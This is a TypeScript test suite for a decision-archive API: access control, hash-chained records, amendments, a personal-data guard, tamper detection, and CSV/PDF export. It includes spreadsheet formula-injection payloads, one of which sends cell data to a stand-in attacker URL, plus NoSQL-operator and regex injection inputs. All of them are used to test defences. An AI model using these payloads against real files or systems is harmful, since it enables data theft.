import { expect } from "chai";
import { parse } from "csv-parse/sync";
import mongoose from "mongoose";
import { ArchiveRecord } from "../../../server/models/ArchiveRecord";
import { AuditEntry } from "../../../server/models/AuditEntry";
import { Decision } from "../../../server/models/Decision";
import { Meeting } from "../../../server/models/Meeting";
import type { Role } from "../../../shared/domain";
import { buildUser, type BuiltUser } from "../../support/factories";
import { buildDecision, buildMeeting } from "../../support/meetingFactories";
import { expectProblem } from "../../support/problemAssertions";
import { TestClient } from "../../support/testClient";
import { pdfPages } from "../../support/pdfText";
import { startTestServer, type TestServer } from "../../support/testServer";

describe("archive routes", () => {
  let server: TestServer;
  let chair: BuiltUser;
  const signedIn = async (role: Role) => {
    const built = await buildUser({ role });
    const client = new TestClient(server.url);
    await client.signIn(built.email, built.password, built.totpSecret);
    return client;
  };
  /** A closed meeting in 2026 with two decisions: one with a substantive note, one "not applicable". */
  const closedMeeting = async (title: string, startsAt = new Date("2026-03-14T09:30:00Z")) => {
    const meeting = await buildMeeting({ title, status: "closed", startsAt });
    await buildDecision(meeting, chair);
    await buildDecision(meeting, chair, { text: "The next meeting is in Luxembourg.", outcome: "postponed", victimNote: { kind: "not_applicable", text: "A practical arrangement only." } });
    return meeting;
  };

  before(async () => {
    server = await startTestServer();
    chair = await buildUser({ role: "chair", name: "Chair Person" });
  });
  after(() => server.stop());

  it("requires authentication (401) to search, finalise and amend", async () => {
    const anonymous = new TestClient(server.url);
    await anonymous.session();
    const meeting = await closedMeeting("Anonymous attempt");
    expectProblem(await anonymous.get("/api/archive"), 401, "unauthorized");
    expectProblem(await anonymous.get("/api/archive/export.pdf"), 401, "unauthorized");
    expectProblem(await anonymous.post(`/api/meetings/${meeting._id}/finalise`), 401, "unauthorized");
    expectProblem(await anonymous.post("/api/archive/BNL-2026-001/amendments", { text: "x", outcome: "adopted", reason: "x" }), 401, "unauthorized");
    expect((await Meeting.findById(meeting._id).lean())!.status).to.equal("closed");
  });

  it("rejects a user without permission: only the secretariat finalises and amends; observers cannot read the archive", async () => {
    const meeting = await closedMeeting("Permission test");
    for (const role of ["chair", "member"] as const) {
      const client = await signedIn(role);
      expectProblem(await client.post(`/api/meetings/${meeting._id}/finalise`), 403, "forbidden");
      expect((await client.get("/api/archive")).status).to.equal(200);
      expectProblem(await client.get("/api/archive/verify"), 403, "forbidden");
    }
    const observer = await signedIn("observer");
    expectProblem(await observer.get("/api/archive"), 403, "forbidden");
    expectProblem(await observer.get("/api/archive/export.csv"), 403, "forbidden");
    expectProblem(await observer.get("/api/archive/export.pdf"), 403, "forbidden");
    expect((await Meeting.findById(meeting._id).lean())!.status).to.equal("closed");
    const secretariat = await signedIn("secretariat");
    expectProblem(await secretariat.post(`/api/meetings/${(await buildMeeting({ status: "in_progress" }))._id}/finalise`), 403, "forbidden");
  });

  it("finalises a closed meeting into numbered, hash-chained records, once; they cannot be changed and the chain verifies", async () => {
    const secretariat = await signedIn("secretariat");
    const meeting = await closedMeeting("Spring meeting 2026");
    const response = await secretariat.post(`/api/meetings/${meeting._id}/finalise`);
    expect(response.status, JSON.stringify(response.body)).to.equal(200);
    expect(response.body.numbers).to.have.length(2);
    for (const number of response.body.numbers) expect(number).to.match(/^BNL-2026-\d{3}$/);
    expect((await Meeting.findById(meeting._id).lean())!.status).to.equal("finalised");
    expect((await Decision.find({ meetingId: String(meeting._id) }).lean()).map((d) => d.archiveNumber).sort()).to.deep.equal([...response.body.numbers].sort());
    expectProblem(await secretariat.post(`/api/meetings/${meeting._id}/finalise`), 403, "forbidden");

    const record = (await secretariat.get(`/api/archive/${response.body.numbers[0]}`)).body;
    expect(record).to.include({ kind: "decision", meetingTitle: "Spring meeting 2026", recordedBy: "Chair Person", outcome: "adopted" });
    expect(record.victimNote.kind).to.equal("considered");

    // There is no way to change or delete a record: those methods are not allowed on it.
    expect((await secretariat.patch(`/api/archive/${record.number}`, { text: "changed" })).status).to.equal(405);
    expect((await secretariat.delete(`/api/archive/${record.number}`)).status).to.equal(405);
    let refused: Error | null = null;
    await ArchiveRecord.updateOne({ number: record.number }, { $set: { text: "changed" } }).catch((e: Error) => (refused = e));
    expect(refused, "the model refuses updates").not.to.equal(null);
    await ArchiveRecord.deleteOne({ number: record.number }).catch((e: Error) => (refused = e));
    expect(await ArchiveRecord.countDocuments({ number: record.number })).to.equal(1);
    expect((await secretariat.get("/api/archive/verify")).body).to.include({ ok: true });
    const decisionId = (await Decision.findOne({ archiveNumber: record.number }))!.id;
    const chairClient = new TestClient(server.url);
    await chairClient.signIn(chair.email, chair.password, chair.totpSecret);
    expectProblem(await chairClient.patch(`/api/decisions/${decisionId}`, { text: "x", outcome: "adopted", method: "consensus", victimNote: { kind: "considered", text: "x".repeat(30) } }), 403, "forbidden");
  });

  it("corrects a record with an amendment that points to it and chains; the chain shows tampering behind the app's back", async () => {
    const secretariat = await signedIn("secretariat");
    const meeting = await closedMeeting("Amendment meeting");
    const [original] = (await secretariat.post(`/api/meetings/${meeting._id}/finalise`)).body.numbers;
    expectProblem(await secretariat.post(`/api/archive/${original}/amendments`, { text: "Corrected text", outcome: "adopted", reason: "Typo in the minutes" }), 422, "victim_note_required");
    expectProblem(await secretariat.post(`/api/archive/${original}/amendments`, { text: "Corrected", outcome: "adopted", reason: "", victimNote: { kind: "considered", text: "x".repeat(30) } }), 422, "validation_failed");
    expectProblem(await secretariat.post("/api/archive/BNL-1999-999/amendments", { text: "x", outcome: "adopted", reason: "x", victimNote: { kind: "not_applicable", text: "Only a date changes." } }), 404, "not_found");
    const amendment = await secretariat.post(`/api/archive/${original}/amendments`, {
      text: "The shelters exchange their free places twice a week.",
      outcome: "adopted",
      reason: "The meeting agreed twice a week, not weekly.",
      victimNote: { kind: "considered", text: "Faster exchange shortens the time a victim in danger waits for a safe place." },
    });
    expect(amendment.status, JSON.stringify(amendment.body)).to.equal(201);
    expect(amendment.body).to.include({ kind: "amendment", amends: original, reason: "The meeting agreed twice a week, not weekly." });
    expect((await secretariat.get(`/api/archive/${original}`)).body.amendedBy).to.deep.equal([amendment.body.number]);
    expect((await secretariat.get("/api/archive/verify")).body.ok).to.equal(true);

    // Someone edits the database directly: verification names the record.
    await mongoose.connection.collection("archiverecords").updateOne({ number: original }, { $set: { victimNote: "edited" } });
    const broken = (await secretariat.get("/api/archive/verify")).body;
    expect(broken.ok).to.equal(false);
    expect(broken.firstBroken.number).to.equal(original);
    await mongoose.connection.collection("archiverecords").updateOne({ number: original }, { $set: { victimNote: (await Decision.findOne({ archiveNumber: original }).lean())!.victimNote.text } });
    expect((await secretariat.get("/api/archive/verify")).body.ok).to.equal(true);
  });

  it("runs the personal-data guard on an amendment (text, victim note, reason): nothing enters the archive or its PDF until rewritten or acknowledged (audited)", async () => {
    const secretariat = await signedIn("secretariat");
    const member = await signedIn("member");
    const meeting = await closedMeeting("Guarded amendment meeting");
    const [original] = (await secretariat.post(`/api/meetings/${meeting._id}/finalise`)).body.numbers;
    const body = {
      text: "The shelters exchange their free places twice a week.",
      outcome: "adopted",
      reason: "Correction asked by mevrouw Vasilescu.",
      victimNote: { kind: "considered", text: "Het slachtoffer Oksana Melnyk wachtte drie weken op een veilige plaats." },
    };
    const amendments = `/api/archive/${original}/amendments`;
    const count = () => ArchiveRecord.countDocuments({ amends: original });
    const refused = await secretariat.post(amendments, body);
    expectProblem(refused, 422, "personal_data_found");
    expect(refused.body.findings.map((f: { field: string; key: string }) => [f.field, f.key])).to.deep.equal([
      ["victimNote.text", "person_name:oksana melnyk"],
      ["reason", "person_name:vasilescu"],
    ]);
    expectProblem(await member.post(amendments, { ...body, acknowledgedFindings: ["person_name:oksana melnyk", "person_name:vasilescu"] }), 403, "forbidden");
    for (const acknowledgedFindings of ["all", [42], [{ $gt: "" }], Array.from({ length: 51 }, (_, i) => `person_name:x${i}`)]) {
      expectProblem(await secretariat.post(amendments, { ...body, acknowledgedFindings }), 422, "validation_failed");
    }
    expectProblem(await secretariat.post(amendments, { ...body, acknowledgedFindings: ["person_name:oksana melnyk"] }), 422, "personal_data_found");
    expect(await count()).to.equal(0);

    const accepted = await secretariat.post(amendments, { ...body, reason: "Correction asked by the Dutch delegation.", acknowledgedFindings: ["person_name:oksana melnyk"] });
    expect(accepted.status, JSON.stringify(accepted.body)).to.equal(201);
    expect(await count()).to.equal(1);
    const audited = await AuditEntry.find({ action: "archive.finding_acknowledged", targetId: accepted.body.number }).lean();
    expect(audited.map((e) => JSON.parse(String(e.details)))).to.deep.equal([{ kind: "person_name", key: "person_name:oksana melnyk", field: "victimNote.text" }]);
  });

  it("gives the right total on every page of a search, counted only when the page does not show it", async () => {
    const secretariat = await signedIn("secretariat");
    const meeting = await closedMeeting("Paging meeting");
    await secretariat.post(`/api/meetings/${meeting._id}/finalise`);
    const page = async (query: string) => (await secretariat.get(`/api/archive?meetingId=${meeting._id}&${query}`)).body as { records: unknown[]; total: number };
    for (const [query, shown] of [["limit=1", 1], ["limit=1&offset=1", 1], ["limit=5", 2], ["limit=5&offset=1", 1], ["offset=5", 0]] as const) {
      const result = await page(query);
      expect(result.records, query).to.have.length(shown);
      expect(result.total, query).to.equal(2);
    }
  });

  it("serves a record changed behind the app's back with integrity \"broken\", in the list and on its own; others stay \"ok\"", async () => {
    const secretariat = await signedIn("secretariat");
    const meeting = await closedMeeting("Integrity meeting");
    const [changed, untouched] = (await secretariat.post(`/api/meetings/${meeting._id}/finalise`)).body.numbers;
    expect((await secretariat.get(`/api/archive/${changed}`)).body.integrity).to.equal("ok");
    for (const edit of [{ text: "A different decision" }, { year: 2031 }]) {
      const before = (await ArchiveRecord.findOne({ number: changed }).lean())!;
      await mongoose.connection.collection("archiverecords").updateOne({ number: changed }, { $set: edit });
      expect((await secretariat.get(`/api/archive/${changed}`)).body.integrity, JSON.stringify(edit)).to.equal("broken");
      const list = (await secretariat.get(`/api/archive?meetingId=${meeting._id}`)).body.records as { number: string; integrity: string }[];
      expect(Object.fromEntries(list.map((r) => [r.number, r.integrity]))).to.deep.equal({ [changed]: "broken", [untouched]: "ok" });
      await mongoose.connection.collection("archiverecords").updateOne({ number: changed }, { $set: { text: before.text, year: before.year } });
    }
    expect((await secretariat.get(`/api/archive/${changed}`)).body.integrity).to.equal("ok");
  });

  it("searches by text (literally), date range, meeting, outcome and tag; exports CSV; reports the share of substantive victim notes", async () => {
    const secretariat = await signedIn("secretariat");
    const older = await closedMeeting("Autumn meeting 2025 (Luxembourg)", new Date("2025-10-10T08:00:00Z"));
    await secretariat.post(`/api/meetings/${older._id}/finalise`);
    const member = await signedIn("member");
    const byText = (await member.get(`/api/archive?q=${encodeURIComponent("(Luxembourg)")}`)).body;
    expect(byText.records.every((r: { meetingTitle: string; text: string }) => /Luxembourg/.test(r.meetingTitle + r.text))).to.equal(true);
    expect(byText.total).to.be.at.least(2);
    expect((await member.get(`/api/archive?q=${encodeURIComponent(".*")}`)).body.total).to.equal(0); // no regex injection
    const inRange = (await member.get("/api/archive?from=2025-10-10&to=2025-10-10")).body;
    expect(inRange.records.map((r: { meetingId: string }) => r.meetingId)).to.deep.equal([String(older._id), String(older._id)]);
    expect((await member.get(`/api/archive?meetingId=${older._id}&outcome=postponed`)).body.total).to.equal(1);
    expect((await member.get(`/api/archive?meetingId=${older._id}&tag=shelter_and_care`)).body.total).to.equal(2);
    expectProblem(await member.get("/api/archive?outcome=maybe"), 422, "validation_failed");
    expectProblem(await member.get("/api/archive?from=10-10-2025"), 422, "validation_failed");
    expectProblem(await member.get("/api/archive?limit=5000"), 422, "validation_failed");

    const csv = await fetch(`${server.url}/api/archive/export.csv?meetingId=${older._id}`, { headers: { cookie: member.cookieHeader() } });
    expect(csv.headers.get("content-type")).to.match(/^text\/csv/);
    const rows = parse(await csv.text(), { bom: true, delimiter: ";" }) as string[][];
    expect(rows[0]!.slice(0, 5)).to.deep.equal(["number", "kind", "amends", "meeting_date", "meeting"]);
    expect(rows).to.have.length(3);
    expect(rows[1]!.slice(3, 5)).to.deep.equal(["2025-10-10", "Autumn meeting 2025 (Luxembourg)"]);
    expect(await AuditEntry.exists({ action: "archive.exported", details: { $regex: '"format":"csv"' } }), "the CSV export is audited").to.not.equal(null);

    const report = (await member.get("/api/archive/report")).body;
    const row = report.perMeeting.find((r: { key: string }) => r.key === String(older._id));
    expect(row).to.include({ decisions: 2, substantive: 1, share: 0.5 });
    expect(report.perYear.find((r: { key: string }) => r.key === "2025")).to.include({ decisions: 2, substantive: 1 });
  });

  it("exports hostile cells so that no spreadsheet reads them as formulas, whichever separator it splits on", async () => {
    const secretariat = await signedIn("secretariat");
    const meeting = await buildMeeting({ title: '=HYPERLINK("https://evil.example","Open")', status: "closed" });
    await buildDecision(meeting, chair, { text: 'Agreed;=HYPERLINK("https://evil.example/?d="&A1,"details"),+1', victimNote: { kind: "considered", text: "@SUM(1,2);-3" } });
    await secretariat.post(`/api/meetings/${meeting._id}/finalise`);
    const response = await fetch(`${server.url}/api/archive/export.csv?meetingId=${meeting._id}`, { headers: { cookie: secretariat.cookieHeader() } });
    const file = await response.text();
    const [header, row] = parse(file, { bom: true, delimiter: ";" }) as string[][];
    const cell = (name: string) => row![header!.indexOf(name)];
    expect(cell("meeting")).to.equal(`'=HYPERLINK("https://evil.example","Open")`);
    expect(cell("decision")).to.equal(`Agreed;'=HYPERLINK("https://evil.example/?d="&A1,"details"),'+1`);
    expect(cell("victim_note")).to.equal("'@SUM(1,2);'-3");
    for (const separator of [";", ","]) {
      for (const piece of file.split(/\r\n/).flatMap((line) => line.split(separator))) expect(piece.replace(/^[\uFEFF "]+/, "")).not.to.match(/^[=+\-@\t\r]/);
    }
  });

  it("exports the search result as a PDF in the reader's language: every record, amendments with the record they correct; audited", async () => {
    const secretariat = await signedIn("secretariat");
    const meeting = await closedMeeting("PDF export meeting", new Date("2026-05-12T08:00:00Z"));
    const [original, second] = (await secretariat.post(`/api/meetings/${meeting._id}/finalise`)).body.numbers;
    const amendment = (
      await secretariat.post(`/api/archive/${original}/amendments`, {
        text: "The shelters exchange their free places twice a week.",
        outcome: "adopted",
        reason: "The meeting agreed twice a week.",
        victimNote: { kind: "considered", text: "Faster exchange shortens the time a victim in danger waits for a safe place." },
      })
    ).body.number;
    const reader = await buildUser({ role: "member", name: "Lena Lezer", language: "nl" });
    const member = new TestClient(server.url);
    await member.signIn(reader.email, reader.password, reader.totpSecret);

    const response = await fetch(`${server.url}/api/archive/export.pdf?meetingId=${meeting._id}`, { headers: { cookie: member.cookieHeader() } });
    expect(response.status).to.equal(200);
    expect(response.headers.get("content-type")).to.match(/^application\/pdf/);
    expect(response.headers.get("content-disposition")).to.match(/^attachment; filename="?greychair-decision-archive\.pdf/);
    const file = Buffer.from(await response.arrayBuffer());
    expect(file.subarray(0, 5).toString("latin1")).to.equal("%PDF-");
    const text = pdfPages(file).flat().join(" ").replace(/\s+/g, " ");
    for (const number of [original, second, amendment]) expect(text).to.include(number);
    expect(text).to.include("Besluitenarchief");
    expect(text).to.include("Vergadering: PDF export meeting");
    expect(text).to.include(`${amendment}: wijziging van ${original}`);
    expect(text).to.include(`Gecorrigeerd door: ${amendment}`);
    expect(text).to.include("Perspectief van het slachtoffer: A victim in danger at home can be moved to a shelter across the border quickly.");
    expect(text).to.include("Vastgelegd door: Chair Person");
    expect(text).to.include("INTERN — Benelux-werkgroep mensenhandel");
    expect(await AuditEntry.countDocuments({ action: "archive.exported", actorId: reader.user.id })).to.equal(1);

    const outcome = pdfPages(Buffer.from(await (await fetch(`${server.url}/api/archive/export.pdf?meetingId=${meeting._id}&outcome=postponed`, { headers: { cookie: member.cookieHeader() } })).arrayBuffer()));
    const filtered = outcome.flat().join(" ");
    expect(filtered).to.include(second);
    expect(filtered).not.to.include(original);
    expectProblem(await member.get("/api/archive/export.pdf?outcome=maybe"), 422, "validation_failed");
  });
});
